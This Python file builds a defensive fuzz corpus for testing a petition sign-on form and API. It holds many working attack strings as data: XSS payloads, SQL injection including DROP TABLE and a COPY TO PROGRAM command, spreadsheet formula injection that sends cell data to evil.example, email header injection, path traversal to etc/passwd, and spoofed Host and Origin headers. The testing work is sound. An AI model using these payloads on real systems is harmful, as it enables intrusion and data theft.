# ruff: noqa: RUF001 - look-alike letters are the point of several cases
"""The hostile-input corpus for `make chaos`: generated from categories, not typed case by case.

Two sorts of case:

- `FieldCase`: one hostile value in one sign-on field. chaos/run.py sends each through both
  doors, the HTML form (`ind-…`/`org-…` fields, with a CSRF token) and the JSON API, with
  every other field valid, so the hostile value is the only reason to refuse it. An
  accepted case must be stored exactly as typed (NFC; runs of white space folded to one
  space, since every field is one line) and shown escaped wherever it is shown.
- `RequestCase`: a hostile request as a whole (content types, malformed JSON and
  multipart, bad UTF-8, 1 MB bodies, bad methods, hosts, links, query strings). It must
  never get a 5xx; most must get a 4xx; a few are legitimate oddities that may be
  accepted (`may_accept`).

Values that need to be unique per door (email addresses) carry `{u}`, replaced at send time.
"""

from __future__ import annotations

import dataclasses
import json
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

# Fields the corpus aims at, as SignatureForm names them.
TEXT_FIELDS = ("name", "name_alt", "affiliation", "city", "region")
ORG_ONLY_FIELDS = ("website", "contact_name", "contact_title", "phone", "category")
# Fields whose stored value must equal the typed one (NFC, white space folded).
VERBATIM_FIELDS = (*TEXT_FIELDS, "contact_name", "contact_title", "phone")
MAX_LENGTH = {
    "name": 200,
    "name_alt": 200,
    "affiliation": 200,
    "city": 100,
    "region": 100,
    "contact_name": 200,
    "contact_title": 200,
    "phone": 40,
    "email": 254,
    "website": 300,
}


@dataclass(frozen=True)
class FieldCase:
    id: str
    category: str
    field: str
    value: str
    kind: str = "individual"
    # Other fields to set, beyond the valid defaults (for "every field at its maximum").
    extra: dict[str, str] = dataclasses.field(default_factory=dict)


@dataclass(frozen=True)
class RequestCase:
    id: str
    category: str
    door: str  # "api", "form", "list", "api-list", "link"
    method: str
    # Path with {slug}; percent-encoded already (http.client refuses raw control bytes).
    path: str
    # Builds the body from a unique email address, so a case that is accepted makes a new row.
    body: Callable[[str], bytes] | None = None
    headers: dict[str, str] = dataclasses.field(default_factory=dict)
    csrf: bool = False  # send the CSRF cookie and token (form door)
    csrf_in_body: bool = True  # urlencoded token in the body; else X-CSRFToken header
    chunked: bool = False
    may_accept: bool = False
    # Malformed at the HTTP level (RFC 9110 forbids the bytes it sends in a header): the HTTP
    # server must refuse it with a 400 before the application sees it, and no application
    # answer (JSON or page) is possible. See "Refused by the HTTP server" in the README.
    server_refusal: bool = False


# Field cases ---------------------------------------------------------------------------------
MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><iframe src=javascript:alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<a href=\"javascript:alert('x')\">click</a>",
    "<style>*{display:none}</style>",
    "<!--",
    "]]><![CDATA[<script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "{{ 7*7 }}",
    "{% debug %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "<b>Bold</b> Coalition",
    "<<SCRIPT>alert(1)//<</SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    'Tom & Jerry\'s "Peace" <Group>',
]
SQL = [
    "' OR '1'='1",
    "Robert'); DROP TABLE signatures_signature;--",
    '" OR ""="',
    "1; SELECT pg_sleep(10)--",
    "' UNION SELECT email FROM signatures_signature--",
    "admin'--",
    "%' AND 1=1 --",
    "\\'; SELECT 1; --",
    "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
    "O'Brien",
    "1' ORDER BY 1--+",
    "$$; COPY x TO PROGRAM 'id'; $$",
]
FORMULA = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    " =1+1",
    "\t=1+1",
    "＝1+1",  # full-width equals sign: not a formula to a spreadsheet
    "'=1+1",
    "Peace =1+1",
    "-Ann",
    "@everyone",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
]
BIDI = [
    "Peace\u202egnp.exe",  # right-to-left override
    "\u202dLeft override",
    "Name\u202c",  # pop directional formatting
    "\u2066isolate\u2069",
    "\u2067rtl isolate\u2069",
    "\u2068first strong\u2069",
    "Mark\u200f",  # right-to-left mark
    "Mark\u200e",  # left-to-right mark
    "\u061cArabic letter mark",
    "سلام للسلام",  # Arabic, legitimately right to left
    "שלום עכשיו",  # Hebrew
    "Peace ﷺ Coalition",
]
ZERO_WIDTH = [
    "Zero\u200bwidth",
    "Non\u200cjoiner",
    "Joiner\u200d",
    "👩\u200d👩\u200d👧 Family Group",
    "Word\u2060joiner",
    "\ufeffByte order mark",
    "Soft\u00adhyphen",
    "Mongolian\u180evowel",
    "\u3164",  # Hangul filler: looks empty
    "\u115f\u1160",  # Hangul choseong and jungseong fillers
    "\u2800",  # braille blank
    "Grapheme\u034fjoiner",
    "Tag\U000e0041\U000e0042chars",
    "Variation\ufe0f",
]
CONTROL = [
    "Nul\x00byte",
    "Bell\x07",
    "Back\x08space",
    "Vertical\x0btab",
    "Form\x0cfeed",
    "\x1b[31mRed\x1b[0m",
    "Delete\x7f",
    "Next\x85line",
    "C1\x9bcsi",
    "Tab\tinside",
    "Line\nbreak",
    "Carriage\r\nreturn",
    "Line\u2028separator",
    "Para\u2029separator",
    "Escape\x1e\x1f",
]
_PARK = "박지영"
_SEOUL = "서울특별시"
HANGUL = [
    _PARK,
    unicodedata.normalize("NFD", _PARK),
    "ㅂㅏㄱㅈㅣㅇㅕㅇ",  # compatibility jamo
    "ﾡﾂﾧ",  # half-width Hangul
    "\u1100\u119e\u11a8",  # old Hangul, no precomposed form
    "Park 박지영",
    unicodedata.normalize("NFD", "평화와 통일을 여는 사람들"),
    "평화와 통일을 여는 사람들",
    "한국전쟁\u3000종전",  # ideographic space
    "가" * 200,
    unicodedata.normalize("NFD", "한" * 200),  # 600 code points typed, 200 once composed
    "가" * 201,
    "朴智英",
    "パク・ジヨン",
]
UNICODE = [
    "Cafe\u0301 Society",  # decomposed é
    "\u212bngstr\u00f6m",  # Angstrom sign: NFC makes it Å
    "\u212aelvin",  # Kelvin sign: NFC makes it K
    "ﬁne ﬂowers",
    "Ｆｕｌｌ ｗｉｄｔｈ",
    "𝐌𝐚𝐭𝐡 𝐁𝐨𝐥𝐝",
    "🕊️ Doves for Peace 🇰🇷",
    "𠜎𠜱𠝹𠱓",  # astral CJK
    "Z" + "\u0336\u0337\u0338" * 60,  # "zalgo" stacked combining marks
    "\u0958" * 150,  # Devanagari QA: NFC decomposes it, 150 typed become 300
    "\ufdfa" * 60,  # NFKC turns each into 18 letters (the search key)
    "ß" * 200,  # casefold doubles it (the search key)
    "İstanbul Barış",
    "ΣΊΣΥΦΟΣ",
    "\ue000 private use",
    "Noncharacter \uffff",
    "Replacement \ufffd",
    "\u0000" * 3,
]
LENGTH = [
    "A",
    "a" * 200,
    "a" * 201,
    "a" * 10_000,
    "",
    "   ",
    "x " * 150,  # 300 typed, 299 once trimmed
    "Spaces   inside    name",
]
EMAIL = [
    "plain{u}@example.org",
    "no-at-sign{u}.example.org",
    "two{u}@@example.org",
    "a{u}@b",
    "user{u}@localhost",
    '"quoted local {u}"@example.org',
    "comment{u}(x)@example.org",
    "line{u}@example.org\r\nBcc: victim@example.net",
    "line{u}@example.org\nX-Injected: 1",
    "<script>{u}@example.org",
    "javascript:alert(1)//{u}@example.org",
    "UPPER{u}@EXAMPLE.ORG",
    "tagged{u}+newsletter@example.org",
    "ip{u}@[127.0.0.1]",
    "박지영{u}@example.org",
    "jiyoung{u}@예시.한국",
    "Cafe\u0301{u}@example.org",
    "zero\u200bwidth{u}@example.org",
    "nul\x00{u}@example.org",
    "x" * 250 + "{u}@example.org",
    " spaced{u}@example.org ",
    "dots.{u}..double@example.org",
]
WEBSITE = [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://<script>.example",
    "https://example.org/" + "a" * 300,
    "http://exa mple.org",
    "//evil.example",
    "http://例え.jp",
    "ftp://example.org/file",
    "https://example.org/?q=<script>",
    "https://user:pass@example.org",
]
PHONE = ["+1 (510) 555-0134", "=1+1", "<script>", "555\x00", "0" * 41, "+82 10-1234-5678"]
CHOICES = {
    "kind": ["volunteer", "<script>", "ORGANIZATION", ""],
    "country": ["XX", "us", "KP", "<script>", "U\u0301S", "\x00"],
    "display": ["everything", "<b>", "HIDDEN", "initials"],
    "category": ["secret", "<script>", "LOCAL", "labor"],
}


def _field_cases() -> list[FieldCase]:
    cases: list[FieldCase] = []

    def add(category: str, fld: str, values: list[str], kind: str = "individual") -> None:
        for n, value in enumerate(values, 1):
            cases.append(FieldCase(f"{category}-{fld}-{n:02d}", category, fld, value, kind))

    # Each category lands on the name, and a share of it on another field, so every text
    # field meets every kind of trouble somewhere.
    for category, values in (
        ("markup", MARKUP),
        ("sql", SQL),
        ("formula", FORMULA),
        ("bidi", BIDI),
        ("zero-width", ZERO_WIDTH),
        ("control", CONTROL),
        ("hangul", HANGUL),
        ("unicode", UNICODE),
        ("length", LENGTH),
    ):
        add(category, "name", values)
        others = [f for f in TEXT_FIELDS if f != "name"]
        for n, value in enumerate(values[::3], 1):
            target = others[n % len(others)]
            if len(value) > MAX_LENGTH[target] and category != "length":
                value = value[: MAX_LENGTH[target]]
            cases.append(FieldCase(f"{category}-{target}-{n:02d}", category, target, value))
    add("email", "email", EMAIL)
    add("website", "website", WEBSITE, kind="organization")
    add("phone", "phone", PHONE, kind="organization")
    add("markup", "contact_name", MARKUP[:4], kind="organization")
    add("formula", "contact_title", FORMULA[:4], kind="organization")
    add("markup", "org-name", MARKUP[:3], kind="organization")
    for fld, values in CHOICES.items():
        add("choice", fld, values, kind="organization" if fld == "category" else "individual")
    # Every text field at its maximum at once: the derived search key joins them all.
    full = {f: "ß" * MAX_LENGTH[f] for f in TEXT_FIELDS if f != "name"}
    cases.append(FieldCase("length-all-fields-max", "length", "name", "ß" * 200, extra=full))
    full = {f: "w" * MAX_LENGTH[f] for f in TEXT_FIELDS if f != "name"}
    cases.append(FieldCase("length-all-fields-max-ascii", "length", "name", "w" * 200, extra=full))
    # "org-name" is the name field of an organization sign-on.
    return [
        FieldCase(c.id, c.category, "name", c.value, c.kind, c.extra)
        if c.field == "org-name"
        else c
        for c in cases
    ]


FIELD_CASES = _field_cases()


# Request cases ------------------------------------------------------------------------------
SIGN_API = "/api/v1/statements/{slug}/signatures"
SIGN_FORM = "/s/{slug}/sign/"
JSON = {"Content-Type": "application/json"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
MIB = 1024 * 1024


def _person(email: str, **fields: object) -> dict[str, object]:
    return {"kind": "individual", "name": "Chaos Request", "email": email, **fields}


def _json(**fields: object) -> Callable[[str], bytes]:
    return lambda email: json.dumps(_person(email, **fields)).encode()


def _raw(data: bytes) -> Callable[[str], bytes]:
    return lambda email: data


def _template(text: str) -> Callable[[str], bytes]:
    """A body written out by hand (invalid JSON, say); {email} is replaced."""
    return lambda email: text.replace("{email}", email).encode()


def _form(pairs: str) -> Callable[[str], bytes]:
    """An urlencoded body; {email} is replaced, the CSRF token is appended by the runner."""
    return lambda email: pairs.replace("{email}", email.replace("@", "%40")).encode("latin-1")


def _part(name: str, value: bytes, filename: str = "", ctype: str = "") -> bytes:
    head = f'Content-Disposition: form-data; name="{name}"'
    if filename:
        head += f'; filename="{filename}"'
    if ctype:
        head += f"\r\nContent-Type: {ctype}"
    return head.encode() + b"\r\n\r\n" + value


def _multipart(parts: list[tuple[str, str]], boundary: str = "chaosboundary") -> bytes:
    return _parts([_part(name, value.encode()) for name, value in parts], boundary)


def _parts(parts: list[bytes], boundary: str = "chaosboundary") -> bytes:
    sep = f"--{boundary}\r\n".encode()
    return b"".join(sep + part + b"\r\n" for part in parts) + f"--{boundary}--\r\n".encode()


def _request_cases() -> list[RequestCase]:
    cases: list[RequestCase] = []

    def api(id: str, category: str, body: Callable[[str], bytes] | None, **kw: Any) -> None:
        headers = kw.pop("headers", JSON)
        cases.append(
            RequestCase(
                f"api-{id}",
                category,
                "api",
                kw.pop("method", "POST"),
                kw.pop("path", SIGN_API),
                body,
                headers,
                **kw,
            )
        )

    # JSON types and shapes.
    for name, value in [
        ("number", 42),
        ("float-inf", 1e400),
        ("list", ["Park"]),
        ("object", {"first": "Park"}),
        ("true", True),
        ("null", None),
    ]:
        api(f"name-as-{name}", "json-types", _json(name=value))
    api(
        "lone-surrogate-name",
        "json-types",
        lambda e: json.dumps(_person(e, name="Ann \ud800")).encode(),
    )
    api(
        "lone-surrogate-city",
        "json-types",
        lambda e: json.dumps(_person(e, city="\udfff")).encode(),
    )
    api("lone-surrogate-ref", "json-types", lambda e: json.dumps(_person(e, ref="\ud83d")).encode())
    api("lone-surrogate-email", "json-types", lambda e: json.dumps(_person("\ud800" + e)).encode())
    api(
        "lone-surrogate-language",
        "json-types",
        lambda e: json.dumps(_person(e, language="\ud800")).encode(),
    )
    api("nul-in-language", "json-types", _json(language="ko\x00"))
    api("language-script", "json-types", _json(language="<script>"))
    api("language-number", "json-types", _json(language=7))
    api("language-long", "json-types", _json(language="x" * 5000))
    api("updates-string", "json-types", _json(updates="yes"))
    api("networks-string", "json-types", _json(networks="korea-peace-network"))
    api("networks-junk", "json-types", _json(kind="organization", networks=["<script>", "\x00"]))
    api("ref-object", "json-types", _json(ref={"a": 1}))
    api(
        "ref-hostile",
        "json-types",
        _json(ref="<script>alert(1)</script>\x00" * 10),
        may_accept=True,
    )
    api(
        "unknown-fields",
        "json-types",
        _json(is_admin=True, status="approved", counted=True),
        may_accept=True,
    )
    api(
        "duplicate-keys",
        "json-types",
        _template('{"kind":"individual","name":"A","name":"<b>B</b>","email":"{email}"}'),
        may_accept=True,
    )
    api(
        "huge-integer",
        "json-types",
        _template('{"kind":"individual","name":' + "9" * 5000 + ',"email":"{email}"}'),
    )
    api(
        "nan",
        "json-types",
        _template('{"kind":"individual","name":NaN,"email":"{email}"}'),
    )
    api("deep-nesting", "json-types", _raw(b"[" * 100_000 + b"]" * 100_000))
    api(
        "deep-object",
        "json-types",
        lambda e: (
            b'{"kind":"individual","email":"'
            + e.encode()
            + b'","name":'
            + b'{"a":' * 50_000
            + b"1"
            + b"}" * 50_000
            + b"}"
        ),
    )
    # Malformed JSON.
    for n, body in enumerate(
        [
            b"",
            b"{",
            b'{"kind":',
            b"{'kind': 'individual'}",
            b'{"kind":"individual",}',
            b"null",
            b"[]",
            b'"individual"',
            b"1",
            b"true",
            b'{"a":1}{"b":2}',
            b"\x00\x00\x00",
            b"<xml>not json</xml>",
            b"kind=individual&name=A",
        ],
        1,
    ):
        api(f"malformed-{n:02d}", "malformed-json", _raw(body))
    # Bad UTF-8 and other encodings.
    api(
        "bad-utf8-ff",
        "bad-utf8",
        lambda e: b'{"kind":"individual","name":"A\xff","email":"' + e.encode() + b'"}',
    )
    api(
        "bad-utf8-overlong",
        "bad-utf8",
        lambda e: b'{"kind":"individual","name":"\xc0\xaf","email":"' + e.encode() + b'"}',
    )
    api(
        "bad-utf8-surrogate-bytes",
        "bad-utf8",
        lambda e: b'{"kind":"individual","name":"\xed\xa0\x80","email":"' + e.encode() + b'"}',
    )
    api(
        "bad-utf8-truncated",
        "bad-utf8",
        lambda e: b'{"kind":"individual","name":"\xea\xb0","email":"' + e.encode() + b'"}',
    )
    api(
        "latin1-declared",
        "bad-utf8",
        lambda e: b'{"kind":"individual","name":"Caf\xe9","email":"' + e.encode() + b'"}',
        headers={"Content-Type": "application/json; charset=latin-1"},
    )
    api(
        "utf16-body",
        "bad-utf8",
        lambda e: json.dumps(_person(e, name="박지영 UTF-16")).encode("utf-16"),
        headers={"Content-Type": "application/json; charset=utf-16"},
        may_accept=True,
    )
    api(
        "utf8-bom",
        "bad-utf8",
        lambda e: b"\xef\xbb\xbf" + json.dumps(_person(e, name="BOM first")).encode(),
        may_accept=True,
    )
    # Content types.
    for n, ctype in enumerate(
        [
            "text/plain",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/xml",
            "application/json-patch+json",
            "APPLICATION/JSON",
            "application/json; charset=bogus-charset",
            "",
            "application/json\t; x=y",
            "*/*",
        ],
        1,
    ):
        headers = {"Content-Type": ctype} if ctype else {}
        api(
            f"content-type-{n:02d}",
            "content-type",
            _json(name="Content Type"),
            headers=headers,
            may_accept=ctype.lower().startswith("application/json;")
            or ctype == "APPLICATION/JSON"
            or ctype.startswith("application/json\t"),
        )
    # Size.
    api("body-1mib-plus-1", "size", lambda e: json.dumps(_person(e, name="x" * (MIB + 1))).encode())
    api(
        "body-just-under-1mib",
        "size",
        lambda e: json.dumps(_person(e, name="x" * (MIB - 200))).encode(),
    )
    api(
        "body-4mib",
        "size",
        lambda e: json.dumps(_person(e, affiliation="가" * (4 * MIB // 3))).encode(),
    )
    api("chunked-body", "size", _json(name="Chunked"), chunked=True, may_accept=True)
    # Methods, addresses, hosts.
    for method in ("GET", "PUT", "PATCH", "DELETE"):
        api(f"method-{method.lower()}", "method", _json(name="Method"), method=method)
    for n, path in enumerate(
        [
            "/api/v1/statements/no-such-statement/signatures",
            "/api/v1/statements/%00/signatures",
            "/api/v1/statements/%ED%95%9C%EA%B5%AD/signatures",
            "/api/v1/statements/" + "a" * 5000 + "/signatures",
            "/api/v1/statements/..%2F..%2Fetc%2Fpasswd/signatures",
            "/api/v1/statements/{slug}%00/signatures",
            "/api/v1/statements/{slug}/signatures%FF",
        ],
        1,
    ):
        api(f"path-{n:02d}", "path", _json(name="Path"), path=path)
    api("host-evil", "headers", _json(name="Host"), headers={**JSON, "Host": "evil.example"})
    api(
        "accept-language-junk",
        "headers",
        _json(name="Accept Language"),
        headers={**JSON, "Accept-Language": "ko;q=abc, <script>, " + "x" * 4000},
        may_accept=True,
    )
    # Junk a browser could send: Django must shrug it off.
    api(
        "cookie-junk",
        "headers",
        _json(name="Cookie Junk"),
        headers={
            **JSON,
            "Cookie": 'undersigned_language=<script>; csrftoken="a;b"; =; ;; sessionid=%ff',
        },
        may_accept=True,
    )
    # A DEL byte in a header value is not HTTP (field-vchar is %x21-7E / obs-text): granian
    # refuses it with an empty 400 before Django runs.
    api(
        "cookie-control-char",
        "headers",
        _json(name="Cookie Control"),
        headers={**JSON, "Cookie": "undersigned_language=<script>; csrftoken=\x7f"},
        server_refusal=True,
    )
    api(
        "forwarded-for-junk",
        "headers",
        _json(name="Forwarded"),
        headers={**JSON, "X-Forwarded-For": "<script>, 999.1.1.1, ::zz"},
        may_accept=True,
    )

    # The HTML form.
    def form(id: str, category: str, body: Callable[[str], bytes] | None, **kw: Any) -> None:
        headers = kw.pop("headers", FORM)
        cases.append(
            RequestCase(
                f"form-{id}",
                category,
                "form",
                kw.pop("method", "POST"),
                kw.pop("path", SIGN_FORM),
                body,
                headers,
                csrf=kw.pop("csrf", True),
                **kw,
            )
        )

    ok = "ind-kind=individual&ind-name=Chaos+Form&ind-email={email}"
    # The sign-on form carries no CSRF token (signatures.views.sign): without one, or with a
    # wrong one, a same-site post is taken; one another site's page sends is refused.
    form("no-csrf", "csrf", _form(ok), csrf=False, may_accept=True)
    form(
        "wrong-csrf",
        "csrf",
        _form(ok + "&csrfmiddlewaretoken=" + "A" * 64),
        csrf=False,
        may_accept=True,
    )
    form("evil-origin", "csrf", _form(ok), headers={**FORM, "Origin": "http://evil.example"})
    form(
        "cross-site-fetch",
        "csrf",
        _form(ok),
        headers={**FORM, "Sec-Fetch-Site": "cross-site"},
    )
    form(
        "evil-referer-https",
        "csrf",
        _form(ok),
        headers={**FORM, "Referer": "https://evil.example/"},
        may_accept=True,
    )
    form(
        "json-body",
        "content-type",
        lambda e: json.dumps(_person(e)).encode(),
        headers=JSON,
        csrf_in_body=False,
    )
    form(
        "text-plain",
        "content-type",
        _form(ok),
        headers={"Content-Type": "text/plain"},
        csrf_in_body=False,
    )
    form("no-content-type", "content-type", _form(ok), headers={}, csrf_in_body=False)
    form(
        "charset-utf16",
        "content-type",
        _form(ok),
        headers={"Content-Type": "application/x-www-form-urlencoded; charset=utf-16"},
        may_accept=True,
    )
    for n, charset in enumerate(["utf8", "UTF-8", "iso-8859-1", "ascii"], 1):
        form(
            f"charset-{n:02d}",
            "content-type",
            _form(ok),
            headers={"Content-Type": f"application/x-www-form-urlencoded; charset={charset}"},
            may_accept=True,
        )
    form(
        "charset-bogus",
        "content-type",
        _form(ok),
        headers={"Content-Type": "application/x-www-form-urlencoded; charset=no-such-charset"},
        may_accept=True,
    )
    form(
        "charset-utf7",
        "content-type",
        _form(ok.replace("Chaos+Form", "%2BAGA-script%2BAD4-")),
        headers={"Content-Type": "application/x-www-form-urlencoded; charset=utf-7"},
        may_accept=True,
    )
    form(
        "bad-utf8-percent",
        "bad-utf8",
        _form(ok.replace("Chaos+Form", "Caf%E9+%FF%FE")),
        may_accept=True,
    )
    form(
        "bad-utf8-raw",
        "bad-utf8",
        lambda e: (
            b"ind-kind=individual&ind-name=A\xff\xfe\xed\xa0\x80&ind-email="
            + e.replace("@", "%40").encode()
        ),
        may_accept=True,
    )
    form("bad-percent", "bad-utf8", _form(ok.replace("Chaos+Form", "100%+%zz%")), may_accept=True)
    form(
        "1mib-body",
        "size",
        lambda e: (
            ok.replace("{email}", e.replace("@", "%40")) + "&ind-affiliation=" + "x" * MIB
        ).encode(),
    )
    form(
        "4mib-body",
        "size",
        lambda e: (ok.replace("{email}", e.replace("@", "%40")) + "&pad=" + "y" * 4 * MIB).encode(),
    )
    form(
        "1001-fields",
        "size",
        lambda e: (
            ok.replace("{email}", e.replace("@", "%40")) + "".join(f"&f{i}=1" for i in range(1001))
        ).encode(),
    )
    form("repeated-name", "shape", _form(ok + "&ind-name=%3Cb%3ELast%3C%2Fb%3E"), may_accept=True)
    form("org-and-ind", "shape", _form(ok + "&org-kind=organization"))
    form("no-kind", "shape", _form("ind-name=No+Kind&ind-email={email}"), may_accept=True)
    form(
        "array-names",
        "shape",
        _form("ind-kind=individual&ind-name[]=A&ind-name[]=B&ind-email={email}"),
    )
    form("empty-body", "shape", _raw(b""))
    form("method-get", "method", None, method="GET")
    form("method-put", "method", _form(ok), method="PUT")
    form("host-evil", "headers", _form(ok), headers={**FORM, "Host": "evil.example"})
    form("chunked", "size", _form(ok), chunked=True)
    mp = [
        ("ind-kind", "individual"),
        ("ind-name", "Multipart <b>Form</b> 박지영"),
        ("ind-email", "{email}"),
    ]
    form(
        "multipart-valid",
        "multipart",
        lambda e: _multipart([(k, v.replace("{email}", e)) for k, v in mp]),
        headers={"Content-Type": "multipart/form-data; boundary=chaosboundary"},
        may_accept=True,
    )
    form(
        "multipart-no-boundary",
        "multipart",
        lambda e: _multipart([(k, v.replace("{email}", e)) for k, v in mp]),
        headers={"Content-Type": "multipart/form-data"},
    )
    form(
        "multipart-wrong-boundary",
        "multipart",
        lambda e: _multipart([(k, v.replace("{email}", e)) for k, v in mp]),
        headers={"Content-Type": "multipart/form-data; boundary=other"},
    )
    form(
        "multipart-truncated",
        "multipart",
        lambda e: _multipart([(k, v.replace("{email}", e)) for k, v in mp])[:-30],
        headers={"Content-Type": "multipart/form-data; boundary=chaosboundary"},
    )
    form(
        "multipart-boundary-too-long",
        "multipart",
        lambda e: _multipart([(k, v.replace("{email}", e)) for k, v in mp], "b" * 200),
        headers={"Content-Type": "multipart/form-data; boundary=" + "b" * 200},
    )
    form(
        "multipart-no-disposition",
        "multipart",
        _raw(b"--chaosboundary\r\nContent-Type: text/plain\r\n\r\nvalue\r\n--chaosboundary--\r\n"),
        headers={"Content-Type": "multipart/form-data; boundary=chaosboundary"},
    )
    form(
        "multipart-garbage",
        "multipart",
        _raw(b"\x00\xff" * 500),
        headers={"Content-Type": "multipart/form-data; boundary=chaosboundary"},
    )
    multipart = {"Content-Type": "multipart/form-data; boundary=chaosboundary"}
    form(
        "multipart-name-as-file",
        "multipart",
        lambda e: _parts(
            [
                _part("ind-kind", b"individual"),
                _part("ind-name", b"<script>alert(1)</script>", "x.html", "text/html"),
                _part("ind-email", e.encode()),
            ]
        ),
        headers=multipart,
    )
    form(
        "multipart-bad-utf8",
        "multipart",
        lambda e: _parts(
            [
                _part("ind-kind", b"individual"),
                _part("ind-name", b"A\xff\xfe"),
                _part("ind-email", e.encode()),
            ]
        ),
        headers=multipart,
        may_accept=True,
    )
    form(
        "multipart-2mib-file",
        "multipart",
        lambda e: _parts(
            [
                _part("ind-kind", b"individual"),
                _part("ind-email", e.encode()),
                _part("upload", b"\x00" * 2 * MIB, "big.bin"),
            ]
        ),
        headers=multipart,
    )
    form("unknown-slug", "path", _form(ok), path="/s/no-such-statement/sign/")
    form(
        "korean-prefix",
        "path",
        _form(ok.replace("Chaos+Form", "%ED%95%9C%EA%B5%AD%EC%96%B4")),
        path="/ko/s/{slug}/sign/",
        may_accept=True,
    )
    form("unknown-language-prefix", "path", _form(ok), path="/xx/s/{slug}/sign/")

    # Search and paging on the public list, HTML and API.
    for n, query in enumerate(
        [
            "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "q=%00",
            "q=%25",
            "q=_",
            "q=%27%20OR%201%3D1--",
            "q=%ED%A0%80",
            "q=%FF",
            "q=" + "a" * 5000,
            "q=%E1%84%80%E1%85%A1",  # decomposed 가
            "q=%E2%80%AE",
            "page=0",
            "page=-1",
            "page=abc",
            "page=99999999999999999999999",
            "page=1e9",
            "kind=%3Cscript%3E",
            "kind=%00",
            "q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        ],
        1,
    ):
        cases.append(
            RequestCase(
                f"list-{n:02d}",
                "query",
                "list",
                "GET",
                "/s/{slug}/signatories/?" + query,
                may_accept=True,
            )
        )
        cases.append(
            RequestCase(
                f"api-list-{n:02d}",
                "query",
                "api-list",
                "GET",
                "/api/v1/statements/{slug}/signatories?" + query,
                may_accept=True,
            )
        )
    # Emailed links.
    for n, token in enumerate(
        [
            "AAAA",
            "%00",
            "x" * 5000,
            "WzEsIm5vbmNlIl0:1tXYZ0:badsignature",
            "WzEsIm5vbmNlIl0",
            "..%2F..",
            "%3Cscript%3E",
            "W10:1tXYZ0:aaaa",
        ],
        1,
    ):
        for purpose in ("confirm", "withdraw"):
            for method in ("GET", "POST"):
                cases.append(
                    RequestCase(
                        f"link-{purpose}-{method.lower()}-{n:02d}",
                        "links",
                        "link",
                        method,
                        f"/s/{{slug}}/{purpose}/{token}/",
                        _raw(b"") if method == "POST" else None,
                        dict(FORM) if method == "POST" else {},
                        csrf=method == "POST",
                    )
                )
    return cases


REQUEST_CASES = _request_cases()


def summary() -> dict[str, int]:
    counts: dict[str, int] = {}
    cases: list[FieldCase | RequestCase] = [*FIELD_CASES, *REQUEST_CASES]
    for case in cases:
        counts[case.category] = counts.get(case.category, 0) + 1
    return counts


if __name__ == "__main__":
    for category, n in sorted(summary().items()):
        print(f"{category:16} {n}")
    print(f"{'field cases':16} {len(FIELD_CASES)}")
    print(f"{'request cases':16} {len(REQUEST_CASES)}")
